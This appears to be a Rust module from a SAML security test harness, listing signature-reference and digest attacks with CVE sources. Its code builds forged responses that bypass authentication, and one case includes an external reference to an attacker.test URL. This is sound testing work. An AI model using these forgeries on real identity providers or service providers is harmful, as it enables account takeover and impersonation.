//! Attacks on what a Reference refers to, and on the digest in it.

use super::tools::signed_element;
use super::{Attack, FORGERY, ORDINARY, WRAPPING, is_signed_plain};
use crate::canonical::canonical;
use crate::recipe::{Recipe, RecipeError};
use crate::sign::{Digested, Plan, Target, usual_position};
use crate::step::Step;
use crate::workshop::Workshop;

fn refers_to(plan: &mut Plan, uri: &str) {
    plan.references = vec![Target::Uri(uri.to_owned())];
}

pub(super) const NO_REFERENCE_URI: Attack = Attack {
    id: "no_reference_uri",
    about: "The Reference has no URI at all: what it refers to is left to the reader.",
    source: "SIG-06; core 5.4.2; ruby-saml and php-saml took it",
    live: false,
    steps: &[Step::Plan(|plan, _| plan.references = vec![Target::Absent])],
    ..ORDINARY
};

pub(super) const EMPTY_FRAGMENT: Attack = Attack {
    id: "empty_fragment",
    about: "The Reference is `#` with no ID behind it.",
    source: "SIG-06; core 5.4.2",
    live: false,
    steps: &[Step::Plan(|plan, _| refers_to(plan, "#"))],
    ..ORDINARY
};

pub(super) const XPOINTER_REFERENCE: Attack = Attack {
    id: "xpointer_reference",
    about: "The Reference is an XPointer to the whole document instead of an ID.",
    source: "SIG-06; C14-07; samael's xpointer fixture",
    live: false,
    steps: &[Step::Plan(|plan, _| refers_to(plan, "#xpointer(/)"))],
    ..ORDINARY
};

pub(super) const EXTERNAL_REFERENCE: Attack = Attack {
    id: "external_reference",
    about: "The Reference is a URL that an SP would have to fetch; the digest is that of the message.",
    source: "SIG-06; core 5.4.2; CVE-2021-40690",
    live: false,
    steps: &[Step::Plan(|plan, _| refers_to(plan, "https://attacker.test/assertion.xml"))],
    ..ORDINARY
};

pub(super) const THOUSAND_REFERENCES: Attack = Attack {
    id: "thousand_references",
    about: "SignedInfo has the same Reference a thousand times: each would have to be digested.",
    source: "SIG-07; core 5.4.2; node-saml CVE-2021-39171",
    steps: &[Step::Plan(|plan, _| plan.references = vec![Target::Own; 1000])],
    ..ORDINARY
};

pub(super) const MANIFEST_REFERENCE: Attack = Attack {
    id: "manifest_reference",
    about: "The Reference is to a Manifest in the Signature's Object, which nobody has to check; names the attacker.",
    source: "SIG-07; XML Signature 5.1",
    steps: &[Step::Plan(|plan, _| refers_to(plan, "#_manifest")), Step::Signed(manifest_reference)],
    ..FORGERY
};

fn manifest_reference(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    workshop.swap_identity()?;
    let manifest = workshop.ds("Object").holding(workshop.ds("Manifest").with("Id", "_manifest"));
    super::tools::its_signature(workshop)?.push(manifest);
    Ok(())
}

pub(super) const REFERENCE_TO_ISSUER: Attack = Attack {
    id: "reference_to_issuer",
    about: "The IdP's signature covers nothing but the Issuer, which has an ID for it; the rest names the attacker.",
    source: "SIG-05; samlify's fixtures; java-saml bad_reference",
    live: true,
    steps: &[Step::Signed(reference_to_issuer)],
    ..FORGERY
};

fn reference_to_issuer(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    workshop.response = workshop.forged_response()?;
    let method = workshop.plan.digested();
    let (forged, around) = signed_element(workshop)?;
    let around = around.inside(forged);
    let issuer = forged.child_mut("Issuer").ok_or(RecipeError::Missing("Issuer"))?;
    issuer.set("ID", "_issuer");
    let octets = canonical(issuer, &around, &method).into_bytes();
    refers_to(&mut workshop.plan, "#_issuer");
    workshop.plan.digested_octets = Digested::Octets(octets);
    if workshop.recipe.sign.assertion() { workshop.sign_assertion() } else { workshop.sign_response() }
}

pub(super) const LIFTED_SIGNATURE: Attack = Attack {
    id: "lifted_signature",
    about: "The Assertion's genuine Signature stands in the Response, to which it does not refer.",
    source: "SIG-04; SIG-05; samlify's fixtures; CVE-2024-8698",
    forges: false,
    steps: &[Step::Signed(lifted_signature)],
    ..WRAPPING
};

fn lifted_signature(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    workshop.strip_response_signature();
    let signature = workshop.assertion()?.take("Signature").ok_or(RecipeError::Missing("Signature"))?;
    let place = usual_position(&workshop.response);
    workshop.response.insert(place, signature);
    Ok(())
}

pub(super) const DIGEST_OF_NOTHING: Attack = Attack {
    id: "digest_of_nothing",
    about: "The IdP's signature is over the digest of no octets, which fits whatever fails to canonicalize; names the attacker.",
    source: "C14-01; CVE-2025-66568, CVE-2025-66475, CVE-2025-66578",
    steps: &[
        Step::Plan(|plan, _| plan.digested_octets = Digested::Octets(Vec::new())),
        Step::Signed(|workshop| workshop.swap_identity()),
    ],
    ..FORGERY
};

pub(super) const RELATIVE_NAMESPACE: Attack = Attack {
    id: "relative_namespace",
    about: "The same, and the Response declares a relative namespace URI, on which canonicalization gives up.",
    source: "C14-01; PortSwigger, The Fragile Lock, 2025; exclusive canonicalization 1",
    steps: &[
        Step::Plan(|plan, _| plan.digested_octets = Digested::Octets(Vec::new())),
        Step::Signed(relative_namespace),
    ],
    ..FORGERY
};

fn relative_namespace(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    workshop.response.set("xmlns:relative", "1");
    workshop.swap_identity()
}

pub(super) const EMPTY_DIGEST: Attack = Attack {
    id: "empty_digest",
    about: "DigestValue is empty; names the attacker.",
    source: "C14-11; C14-01",
    steps: &[
        Step::Plan(|plan, _| plan.digested_octets = Digested::Cut(0)),
        Step::Signed(|workshop| workshop.swap_identity()),
    ],
    ..FORGERY
};

pub(super) const CUT_DIGEST: Attack = Attack {
    id: "cut_digest",
    about: "DigestValue is only the first half of the right digest.",
    source: "C14-11; CVE-2025-48995",
    live: false,
    needs: "a signed message that is not encrypted",
    applies: is_signed_plain,
    steps: &[Step::Plan(cut_digest)],
    ..ORDINARY
};

fn cut_digest(plan: &mut Plan, _recipe: &Recipe) {
    plan.digested_octets = Digested::Cut(16);
}
